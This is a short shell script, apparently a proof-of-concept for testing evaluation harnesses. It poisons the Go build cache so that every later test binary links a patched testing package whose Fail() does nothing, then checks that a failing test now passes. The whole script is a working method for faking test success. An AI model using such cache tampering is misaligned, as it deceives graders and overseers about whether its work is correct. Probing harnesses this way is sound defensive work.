# Poisons the Go build cache ($GOCACHE) as a hostile candidate or agent
# command can: compiles a testing package in which no test can fail (Fail
# returns at once) and files it under the real testing package's action
# ID, so that every later test binary links it. Prints "poison works" when
# a failing test then passes with this cache.
set -eu
src=$(go env GOROOT)/src/testing/testing.go
tmp=$(mktemp -d)
sed 's/^func (c \*common) Fail() {$/&\n\treturn/' "$src" > "$tmp/testing.go"
printf '{"Replace":{"%s":"%s"}}' "$src" "$tmp/testing.go" > "$tmp/overlay.json"
real=$(go list -export -f '{{.Export}}' testing)
fake=$(go list -export -overlay "$tmp/overlay.json" -f '{{.Export}}' testing)
realid=$(basename "$real" -d)
fakeid=$(basename "$fake" -d)
size=$(stat -c %s "$fake")
# An index entry is "v1 ACTION OUTPUT SIZE TIME": point the real action's
# entries at the patched output.
for entry in $(grep -rl --include='*-a' "$realid" "$GOCACHE"); do
	set -- $(cat "$entry")
	printf 'v1 %s %s %20d %20d\n' "$2" "$fakeid" "$size" "$5" > "$entry"
done
mkdir "$tmp/m"
cd "$tmp/m"
printf 'module m\n' > go.mod
printf 'package m\n\nimport "testing"\n\nfunc TestFails(t *testing.T) { t.Fatal("fails") }\n' > m_test.go
go test . > /dev/null 2>&1 && echo "poison works"
